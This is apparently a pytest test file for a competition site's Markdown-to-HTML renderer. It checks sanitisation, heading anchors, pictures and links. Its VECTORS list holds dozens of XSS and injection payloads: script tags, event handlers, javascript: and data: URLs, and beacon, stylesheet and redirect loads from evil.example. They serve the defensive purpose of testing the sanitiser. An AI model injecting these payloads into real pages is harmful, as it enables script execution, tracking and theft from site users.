import re
from urllib.parse import urlsplit

import pytest

from competition.markdown import Heading, Shown, picture_name, render, to_html

CHART = Shown(url="/competitions/aurora/pictures/chart.webp?v=1", width=800, height=320)
PICTURES = {"chart": CHART}
SCHEMES = {"", "http", "https", "mailto"}
# Ways in which text has become script, style or a request elsewhere, in Markdown and in the HTML within it.
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="/competitions/aurora/pictures/chart.webp?v=1" onload=alert(1)>',
    "<img src=//evil.example/beacon.png>",
    "![x](https://evil.example/beacon.png)",
    "![x](//evil.example/beacon.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x](chart"onerror="alert(1))',
    "![x](javascript:alert(1))",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '[x](https://example.org "title\\" onmouseover=alert(1)")',
    "<a href='java&#10;script:alert(1)'>x</a>",
    '<a href="data:text/html,x">x</a>',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<iframe src="https://example.org"></iframe>',
    "<object data=x></object><embed src=x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0">over</p>',
    '<p class="btn btn-primary">Sign in</p>',
    '<form action="https://example.org"><input name=password></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<h2 id="content" onclick=alert(1)>x</h2>',
    '<div hx-get="/account/tokens/" hx-trigger="load">x</div>',
    '<p data-copy="x" hx-post="/x">x</p>',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
ALLOWED_ELEMENTS = re.compile(
    r"</?(?:a|abbr|b|blockquote|br|code|dd|del|dl|dt|em|h[2-6]|hr|i|img|li|ol|p|pre|s|strong|su[bp]|t(?:able|body|d|h|head|r)|ul)"
    r"(?: (?:href|title|rel|src|alt|width|height|loading|start|align|tabindex|id)=\"[^\"<>]*\")*\s*/?>"
)


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_is_left_but_listed_elements_and_attributes(vector):
    html = str(render(vector, PICTURES).html)

    assert "<" not in ALLOWED_ELEMENTS.sub("", html)
    assert {urlsplit(link).scheme for link in re.findall(r'href="([^"]*)"', html)} <= SCHEMES
    assert set(re.findall(r'src="([^"]*)"', html)) <= {CHART.url}
    assert all(anchor.startswith("text-") for anchor in re.findall(r'id="([^"]*)"', html))


def test_tables_and_emphasis_are_rendered():
    html = to_html("**bold**\n\n| a | b |\n|---|---|\n| 1 | 2 |")

    assert "<strong>bold</strong>" in html
    assert "<td>1</td>" in html


def test_a_heading_never_competes_with_the_pages_own():
    assert to_html("# Rules") == '<h2 id="text-rules">Rules</h2>'


def test_headings_have_addresses_and_are_told_for_the_contents():
    text = render("## Where & how\n\ntext\n\n## Where & how", {})

    assert text.headings == (
        Heading(anchor="text-where-how", title="Where & how"),
        Heading(anchor="text-where-how_1", title="Where & how"),
    )
    assert 'id="text-where-how_1"' in text.html


def test_a_link_within_the_text_finds_its_heading():
    assert 'href="#text-rules"' in to_html("[see](#rules)\n\n## Rules")


def test_an_own_picture_is_shown_with_its_size():
    html = render("![A chart](Chart.png)", PICTURES).html

    assert f'src="{CHART.url}"' in html
    assert 'width="800"' in html
    assert 'height="320"' in html
    assert 'alt="A chart"' in html


def test_of_a_picture_that_is_not_there_the_words_stay():
    assert to_html("![A chart](missing)") == "<p><em>A chart</em></p>"


@pytest.mark.parametrize("reference", ["chart", "chart.png", "Chart.JPEG", "chart.webp"])
def test_a_picture_is_called_by_its_name_with_or_without_an_ending(reference):
    assert picture_name(reference) == "chart"


def test_links_vouch_for_nobody_and_hand_nothing_over():
    assert 'rel="nofollow noopener noreferrer"' in to_html("[x](https://example.org)")


def test_what_may_be_too_wide_is_scrolled_with_the_keyboard():
    html = to_html("```\nx\n```\n\n| a |\n|---|\n| 1 |")

    assert '<pre tabindex="0">' in html
    assert '<table tabindex="0">' in html
